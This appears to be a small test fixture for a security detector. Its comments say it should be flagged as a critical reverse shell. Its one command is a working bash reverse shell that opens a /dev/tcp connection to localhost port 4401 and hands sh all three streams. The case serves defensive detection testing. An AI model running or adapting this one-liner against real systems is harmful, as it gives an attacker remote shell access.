# about: one descriptor is opened, and given to a shell as all three streams
# expect: reverse_shell critical
# needs: python3 bash
peer 4401
bash -c 'exec 5<>/dev/tcp/127.0.0.1/4401; sh <&5 >&5 2>&5' || true
done_typing
